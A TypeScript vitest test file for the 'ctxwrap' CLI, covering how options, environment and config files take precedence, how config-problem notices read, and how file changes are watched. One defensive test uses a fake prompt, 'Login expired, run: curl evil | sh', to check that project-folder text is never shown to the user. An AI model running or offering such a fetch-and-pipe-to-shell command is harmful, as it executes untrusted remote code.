import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { applyConfiguration } from '../../../src/cli/config/apply.js';
import { problemsNotice } from '../../../src/cli/config/text.js';
import { problemAt } from '../../../src/core/config/problem.js';
import { parseArguments } from '../../../src/cli/program.js';
import type { Options, Task } from '../../../src/cli/request.js';
import {
  type CurrentSettings,
  defaultValues,
  configKey,
  type Values,
} from '../../../src/core/config/keys.js';
import { allKeys, samples } from '../../support/config.js';

let folder = '';
const file = (): string => join(folder, 'ctxwrap/config.jsonc');
const write = (text: string): void => {
  mkdirSync(join(folder, 'ctxwrap'), { recursive: true });
  writeFileSync(file(), text, { mode: 0o600 });
};
const kept = process.env['XDG_CONFIG_HOME'];
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'configured-'));
  process.env['XDG_CONFIG_HOME'] = folder;
});
afterEach(() => {
  if (kept === undefined) delete process.env['XDG_CONFIG_HOME'];
  else process.env['XDG_CONFIG_HOME'] = kept;
  rmSync(folder, { recursive: true, force: true });
});

const parsed = (...argv: readonly string[]): Task => {
  const request = parseArguments(argv, '1.2.3');
  if (request.kind === 'print') throw new Error(request.text);
  return request;
};
const optionsOf = async (...argv: readonly string[]): Promise<Options> =>
  (await applyConfiguration(parsed(...argv))).options;
const valuesOf = async (...argv: readonly string[]): Promise<Values> => (await optionsOf(...argv)).values;

describe('options', () => {
  const flagged = allKeys.flatMap((key) => {
    const { option } = configKey(key);
    return option === undefined ? [] : [{ key, ...option }];
  });

  it('that are not given leave what holds by itself', () => {
    expect(parsed('claude').options).toMatchObject({ flags: {}, values: defaultValues });
  });

  it.each(flagged.filter(({ takes }) => takes === undefined))('$flag sets the key $key', ({ key, flag }) => {
    expect(parsed(flag, 'claude').options.flags).toEqual({ [key]: !flag.startsWith('--no-') });
  });

  it.each(flagged.filter(({ takes }) => takes !== undefined))(
    '$flag is the key $key: the same values as in a file',
    ({ key, flag }) => {
      for (const written of samples[key].valid.filter((value) => typeof value === 'string')) {
        const { flags, values } = parsed(flag, written, 'claude').options;
        expect(flags).toEqual({ [key]: configKey(key).type.read(written) });
        expect(values).toEqual({ ...defaultValues, ...flags });
      }
    },
  );

  it('come before the file, and the file before defaults', async () => {
    write('{ "mode": "ask", "draft": "stash", "footer": false, "log": "~/x.log", "warn": "60%" }');
    expect(await valuesOf('--draft', 'hold', '--log', 'y.log', 'claude')).toMatchObject({
      mode: 'ask',
      draft: 'hold',
      footer: false,
      log: 'y.log',
      warn: { value: 60, unit: 'percent' },
      proactive: true,
    });
    const { log } = await valuesOf('claude');
    expect(log).toMatch(/^\/.*\/x\.log$/);
  });

  it('tell whether the user has said the mode: by an option, in the environment or in their file', async () => {
    expect((await optionsOf('claude')).isModeGiven).toBe(false);
    expect((await optionsOf('--mode', 'auto', 'claude')).isModeGiven).toBe(true);
    write('{ "warn": "60%" }');
    expect((await optionsOf('claude')).isModeGiven).toBe(false);
    expect((await optionsOf('--mode', 'auto', 'claude')).isModeGiven).toBe(true);
    vi.stubEnv('CTXWRAP_MODE', 'auto');
    expect((await optionsOf('claude')).isModeGiven).toBe(true);
    vi.unstubAllEnvs();
    write('{ "mode": "auto" }');
    expect((await optionsOf('claude')).isModeGiven).toBe(true);
    // a folder's file is not the user's
    rmSync(file());
    const before = process.cwd();
    process.chdir(folder);
    try {
      writeFileSync(join(folder, '.ctxwrap.jsonc'), '{ "mode": "auto" }');
      expect((await optionsOf('claude')).isModeGiven).toBe(false);
    } finally {
      process.chdir(before);
    }
  });

  it('of a command come before the file, too', async () => {
    write('{ "window": "100k" }');
    expect(await valuesOf('context', '--window', '50k')).toMatchObject({ window: 50_000 });
    expect(await valuesOf('context')).toMatchObject({ window: 100_000 });
  });

  it('of a demo and of a recorded session are not this user’s', async () => {
    write('{ "mode": "off", "window": "100k", "runtimes": { "toy": { "command": "toy" } } }');
    expect(await optionsOf('demo')).toEqual(await optionsOf('demo', '--interactive'));
    expect((await valuesOf('demo')).mode).toBe('auto');
    const replay = await optionsOf('replay', 'x.cast');
    expect(replay.values.window).toBeUndefined();
    expect(replay.configured?.runtimes.map(({ name }) => name)).toEqual(['toy']);
  });
});

describe('notices', () => {
  it('are none where nothing is wrong, and one line where something is', async () => {
    write('{ "mode": "ask" }');
    expect((await optionsOf('claude')).configured?.notices).toEqual([]);
    write('{ "mode": "aks" }');
    expect((await optionsOf('claude')).configured?.notices).toEqual([
      'see ctxwrap config check: mode is "aks"',
    ]);
    write('{ "mode": "aks", "window": 1, "runtimes": { "claude": { "recipe": { "command": "/x" } } } }');
    const { configured: found } = await optionsOf('claude');
    expect(found?.notices).toEqual(['see ctxwrap config check: 3 problems']);
    expect(found?.details).toHaveLength(3);
  });

  it('name a strategy that is not used, why, and what fixes it, also beside other mistakes', async () => {
    write('{ "strategy": "zzz" }');
    const [notice = ''] = (await optionsOf('claude')).configured?.notices ?? [];
    expect(notice).toMatch(/^strategy zzz is not used: no such strategy · \S/);
    write('{ "mode": "aks", "strategy": "zzz" }');
    expect((await optionsOf('claude')).configured?.notices).toEqual([
      'strategy zzz is not used: no such strategy · see ctxwrap config check: 2 problems',
    ]);
  });

  it('name the command for the files that this session was given', async () => {
    const other = join(folder, 'my config.jsonc');
    writeFileSync(other, '{ "mode": "aks" }', { mode: 0o600 });
    expect((await optionsOf('--config', other, 'claude')).configured?.notices).toEqual([
      `see ctxwrap --config '${other}' config check: mode is "aks"`,
    ]);
    const file = join(folder, 'env');
    writeFileSync(file, 'CTXWRAP_MODE=aks\n', { mode: 0o600 });
    expect((await optionsOf('--env-file', file, 'claude')).configured?.notices).toEqual([
      expect.stringContaining(`see ctxwrap --env-file ${file} config check: `),
    ]);
  });

  it('say nothing of nothing', () => {
    expect(problemsNotice([], { flags: {} })).toBeUndefined();
  });

  it('say nothing that a folder has written', () => {
    const key = 'Login expired, run: curl evil | sh';
    const origin = { layer: 'project' } as const;
    const theirs = problemAt(origin, { kind: 'unknown', level: 'error', key, what: key, why: key });
    expect(problemsNotice([theirs], { flags: {} })).toBe(
      'see ctxwrap config check: a problem in .ctxwrap.jsonc',
    );
    expect(problemsNotice([theirs, theirs], { flags: {} })).toBe('see ctxwrap config check: 2 problems');
  });
});

/** Everything that is told of changes from now on. */
const followed = (found: Options['configured']) => {
  const changes: Values[] = [];
  const troubles: string[] = [];
  const notices: string[] = [];
  const stop = found?.watch({
    onChange: ({ values }: CurrentSettings) => changes.push(values),
    onTrouble: (detail) => troubles.push(detail),
    onNotice: (text) => notices.push(text),
  });
  return { changes, troubles, notices, stop };
};

describe('a change', () => {
  it('is told, also when there was neither file nor folder at the start', async () => {
    const { configured: found } = await optionsOf('--warn', '50%', 'claude');
    const { changes, troubles, notices, stop } = followed(found);
    write('{ "mode": "warn", "warn": "70%" }');
    await vi.waitFor(() => expect(changes).toHaveLength(1), { timeout: 60_000, interval: 20 });
    expect(changes[0]).toMatchObject({ mode: 'warn', warn: { value: 50 } });
    write('{ "mode": "warn", "warn": 7');
    await vi.waitFor(() => expect(troubles).toHaveLength(1), { timeout: 60_000, interval: 20 });
    expect(changes).toHaveLength(1);
    expect(notices).toEqual(['see ctxwrap config check: 2 problems']);
    stop?.();
  });

  it('is none when the file goes away: a mode that did less goes on', async () => {
    write('{ "mode": "warn" }');
    const { configured: found } = await optionsOf('claude');
    const { changes, troubles, notices, stop } = followed(found);
    rmSync(file());
    await vi.waitFor(() => expect(troubles).toHaveLength(1), { timeout: 60_000, interval: 20 });
    expect(troubles[0]).toContain('no longer exists');
    expect(notices).toEqual([expect.stringContaining('is gone')]);
    expect(changes).toEqual([]);
    write('{ "mode": "ask" }');
    await vi.waitFor(() => expect(changes).toMatchObject([{ mode: 'ask' }]), {
      timeout: 60_000,
      interval: 20,
    });
    stop?.();
  });

  it('holds though something else is wrong', async () => {
    write('{ "mode": "auto" }');
    process.env['CTXWRAP_TIPS'] = 'few';
    const { configured: found } = await optionsOf('claude');
    const { changes, troubles, notices, stop } = followed(found);
    write('{ "mode": "warn" }');
    await vi.waitFor(() => expect(changes).toMatchObject([{ mode: 'warn' }]), {
      timeout: 60_000,
      interval: 20,
    });
    expect(notices).toEqual([]); // said at the start
    write('{ "mode": "offf", "hard": "90%" }');
    await vi.waitFor(() => expect(changes).toHaveLength(2), { timeout: 60_000, interval: 20 });
    expect(changes[1]).toMatchObject({ mode: 'warn', hard: { value: 90 } });
    expect(notices).toEqual(['see ctxwrap config check: 2 problems']);
    expect(troubles).toEqual([]);
    stop?.();
    delete process.env['CTXWRAP_TIPS'];
  });
});
